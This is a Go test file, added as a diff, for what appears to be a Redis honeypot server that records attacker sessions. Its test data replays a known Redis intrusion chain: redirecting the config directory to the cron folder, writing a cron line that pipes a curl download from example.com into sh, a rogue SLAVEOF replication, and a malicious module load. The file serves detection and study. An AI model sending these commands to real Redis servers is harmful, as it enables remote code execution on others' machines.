@@ -0,0 +1,193 @@
+package redisd
+
+import (
+	"bufio"
+	"io"
+	"net"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+)
+
+func command(args ...string) string {
+	cmd := "*" + strconv.Itoa(len(args)) + "\r\n"
+	for _, arg := range args {
+		cmd += "$" + strconv.Itoa(len(arg)) + "\r\n" + arg + "\r\n"
+	}
+	return cmd
+}
+
+// reply reads a whole reply of the server
+func reply(t *testing.T, r *bufio.Reader) string {
+	line, err := r.ReadString('\n')
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	size, _ := strconv.Atoi(line[1 : len(line)-2])
+	switch {
+	case line[0] == '$' && size >= 0:
+		data := make([]byte, size+2)
+		if _, err := io.ReadFull(r, data); err != nil {
+			t.Fatal(err)
+		}
+		return line + string(data)
+	case line[0] == '*':
+		for idx := 0; idx < size; idx++ {
+			line += reply(t, r)
+		}
+	}
+
+	return line
+}
+
+func TestServe(t *testing.T) {
+	server := New(Options{Version: "5.0.7", MaxSize: 1024, MaxCommands: 100, Timeout: time.Second})
+
+	client, conn := net.Pipe()
+	sessions := make(chan Session, 1)
+	go func() {
+		sessions <- server.Serve(conn)
+	}()
+
+	r := bufio.NewReader(client)
+	for _, exchange := range []struct {
+		command  string
+		expected string
+	}{
+		{"PING\r\n", "+PONG\r\n"},
+		{command("INFO", "server"), "redis_version:5.0.7\r\n"},
+		{command("CONFIG", "GET", "dir"), "*2\r\n$3\r\ndir\r\n$14\r\n/var/lib/redis\r\n"},
+		{command("CONFIG", "SET", "dir", "/var/spool/cron/crontabs"), "+OK\r\n"},
+		{command("CONFIG", "GET", "d*"), "/var/spool/cron/crontabs"},
+		{command("CONFIG", "SET", "unknown", "x"), "-ERR Unsupported CONFIG parameter: unknown\r\n"},
+		{command("SET", "x", "\n\n*/1 * * * * curl -s http://example.com/x.sh | sh\n\n"), "+OK\r\n"},
+		{command("GET", "x"), "curl -s"},
+		{command("GET", "y"), "$-1\r\n"},
+		{command("KEYS", "*"), "*1\r\n$1\r\nx\r\n"},
+		{command("SLAVEOF", "192.0.2.1", "21000"), "+OK\r\n"},
+		{command("INFO", "replication"), "master_host:192.0.2.1"},
+		{command("MODULE", "LOAD", "/tmp/exp.so"), "-ERR Error loading the extension"},
+		{command("system.exec", "id"), "-ERR unknown command `system.exec`, with args beginning with: `id`, \r\n"},
+		{command("GET"), "-ERR wrong number of arguments for 'get' command\r\n"},
+		{command("QUIT"), "+OK\r\n"},
+	} {
+		if _, err := client.Write([]byte(exchange.command)); err != nil {
+			t.Fatal(err)
+		}
+
+		if got := reply(t, r); !strings.Contains(got, exchange.expected) {
+			t.Errorf("unexpected reply to %q : %q", exchange.command, got)
+		}
+	}
+
+	session := <-sessions
+	if session.ClosedBy != ClosedByClient || len(session.Commands) != 16 {
+		t.Fatalf("unexpected session %+v", session)
+	}
+
+	if cmd := session.Commands[3]; cmd.Name != "config" || strings.Join(cmd.Args, " ") != "SET dir /var/spool/cron/crontabs" {
+		t.Errorf("unexpected command %+v", cmd)
+	}
+
+	if len(session.Writes) != 1 || session.Writes[0].Key != "x" || !strings.Contains(string(session.Writes[0].Data), "x.sh") {
+		t.Errorf("unexpected writes %+v", session.Writes)
+	}
+
+	// The replication is only recorded, as the fetch is disabled
+	if len(session.Replications) != 1 || session.Replications[0].Host != "192.0.2.1" || session.Replications[0].Data != nil {
+		t.Errorf("unexpected replications %+v", session.Replications)
+	}
+}
+
+func TestProtocolError(t *testing.T) {
+	server := New(Options{Version: "5.0.7", MaxSize: 16, MaxCommands: 100, Timeout: time.Second})
+
+	client, conn := net.Pipe()
+	sessions := make(chan Session, 1)
+	go func() {
+		sessions <- server.Serve(conn)
+	}()
+
+	_, _ = client.Write([]byte("*1\r\n$32\r\n"))
+	if got := reply(t, bufio.NewReader(client)); got != "-ERR Protocol error: invalid bulk length\r\n" {
+		t.Errorf("unexpected reply %q", got)
+	}
+
+	if session := <-sessions; session.ClosedBy != ClosedByServer {
+		t.Errorf("unexpected session %+v", session)
+	}
+}
+
+func TestNegativeMultibulk(t *testing.T) {
+	for _, count := range []string{"*-1\r\n", "*-5\r\n", "*0\r\n"} {
+		args, err := readCommand(bufio.NewReader(strings.NewReader(count+command("PING"))), 16)
+		if err != nil || args != nil {
+			t.Errorf("%q : unexpected command %q (%v)", count, args, err)
+		}
+	}
+}
+
+func TestSyncReplica(t *testing.T) {
+	for _, payload := range []string{
+		"$8\r\nMZ\x90\x00\x03\x00\x00\x00",
+		"\n\n$EOF:" + strings.Repeat("m", eofMarkLength) + "\r\nMZ\x90\x00\x03\x00\x00\x00" + strings.Repeat("m", eofMarkLength),
+	} {
+		replica, master := net.Pipe()
+
+		go func(payload string) {
+			defer master.Close()
+
+			r := bufio.NewReader(master)
+			for _, answer := range []string{"+PONG\r\n", "+OK\r\n", "+OK\r\n", "+FULLRESYNC " + runID + " 1\r\n"} {
+				if _, err := readCommand(r, 1024); err != nil {
+					return
+				}
+				_, _ = master.Write([]byte(answer))
+			}
+			_, _ = master.Write([]byte(payload))
+		}(payload)
+
+		data, err := syncReplica(replica, "6379", 1024)
+		if err != nil || string(data) != "MZ\x90\x00\x03\x00\x00\x00" {
+			t.Errorf("unexpected payload %q (%v)", data, err)
+		}
+		_ = replica.Close()
+	}
+}
+
+func TestIsPublic(t *testing.T) {
+	for addr, expected := range map[string]bool{
+		"127.0.0.1":   false,
+		"10.1.2.3":    false,
+		"172.20.0.1":  false,
+		"169.254.1.1": false,
+		"::1":         false,
+		"192.0.2.1":   true,
+		"8.8.8.8":     true,
+	} {
+		if isPublic(net.ParseIP(addr)) != expected {
+			t.Errorf("unexpected result for %s", addr)
+		}
+	}
+}
+
+func TestMatchGlob(t *testing.T) {
+	for _, tc := range []struct {
+		pattern string
+		s       string
+		match   bool
+	}{
+		{"*", "anything/with/slashes", true},
+		{"d*", "dir", true},
+		{"d*", "save", false},
+		{"?ir", "dir", true},
+		{"**x", "abcx", true},
+		{"max*y", "maxmemory-policy", true},
+	} {
+		if matchGlob(tc.pattern, tc.s) != tc.match {
+			t.Errorf("unexpected result for %s / %s", tc.pattern, tc.s)
+		}
+	}
+}